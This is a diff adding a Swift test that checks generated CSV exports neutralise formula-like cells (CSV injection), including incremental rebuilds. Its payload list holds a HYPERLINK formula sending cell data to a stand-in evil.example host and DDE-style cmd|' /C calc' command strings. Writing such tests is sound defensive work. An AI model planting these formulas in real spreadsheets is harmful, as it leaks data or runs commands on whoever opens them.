@@ -129,4 +129,72 @@ struct HostileTextTests {
             }
         }
     }
+
+    /// Cells a spreadsheet would run as formulas (CSV injection), one for each character that starts one.
+    static let formulas: [String] = [
+        #"=HYPERLINK("http://evil.example/?x="&A1,"Click")"#,
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "+1+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+    ]
+
+    /// No cell of any CSV under `site` begins as a formula; a plain number (an amount like -12.50) may begin with a sign.
+    static func expectNoLiveFormula(in site: URL) throws -> Set<String> {
+        var cells = Set<String>()
+        let files = try siteFiles(site).filter { $0.key.hasSuffix(".csv") }
+        #expect(files.count > 10, "the site has its CSVs")
+        for (path, data) in files {
+            for record in CSVParser.parse(String(decoding: data, as: UTF8.self)) {
+                for cell in record {
+                    cells.insert(cell)
+                    guard let first = cell.unicodeScalars.first, "=+-@\t\r".unicodeScalars.contains(first) else { continue }
+                    #expect(Double(cell) != nil, "a live formula in \(path): \(cell.debugDescription)")
+                }
+            }
+        }
+        return cells
+    }
+
+    @Test func everyCSVShowsFormulaLikeTextAsText() throws {
+        try withTemporaryDirectory { directory in
+            let db = try fixtureDatabase(in: directory, customers: 8)
+            var expected: [String] = []
+            var counter = 0
+            for (table, columns) in Self.textColumns {
+                let rowids = try db.rows("SELECT rowid FROM \(table) ORDER BY rowid").compactMap { $0[0].int64 }
+                for rowid in rowids {
+                    for column in columns {
+                        counter += 1
+                        let value = Self.formulas[counter % Self.formulas.count] + " #\(counter)"
+                        try db.execute("UPDATE \(table) SET \(column) = ? WHERE rowid = ?", [value, rowid])
+                        expected.append(value)
+                    }
+                }
+            }
+            let site = directory.appendingPathComponent("site")
+            try buildSite(db, into: site)
+            let cells = try Self.expectNoLiveFormula(in: site)
+            // The customers' names and the payments' references are there, behind an apostrophe and otherwise intact.
+            for (table, column) in [("customer", "name"), ("payment", "reference")] {
+                try db.forEachRow("SELECT \(column) FROM \(table) WHERE \(column) IS NOT NULL") { row in
+                    let value = try row.string(column)
+                    #expect(cells.contains("'" + value), "\(table).\(column) \(value.debugDescription) is in a CSV, neutralised")
+                }
+            }
+            // Amounts stay numbers: a credit or a negative balance is not turned into text.
+            #expect(CSVRecord.neutralised("-12.50") == "-12.50" && CSVRecord.neutralised("+3") == "+3")
+            #expect(CSVRecord.neutralised("-12.50 EUR") == "'-12.50 EUR" && CSVRecord.neutralised("-") == "'-")
+            #expect(CSVRecord.neutralised("Contoso") == "Contoso" && CSVRecord.neutralised("") == "")
+
+            // A rename patched into the CSV in place (an incremental build) is neutralised as one written afresh.
+            let customer = try #require(try db.scalar("SELECT id FROM customer ORDER BY id LIMIT 1")?.string)
+            try db.execute("UPDATE customer SET name = ? WHERE id = ?", ["=1+2 renamed", customer])
+            let report = try buildSite(db, into: site)
+            #expect(report.incremental)
+            let renamed = try Self.expectNoLiveFormula(in: site)
+            #expect(renamed.contains("'=1+2 renamed"))
+        }
+    }
 }
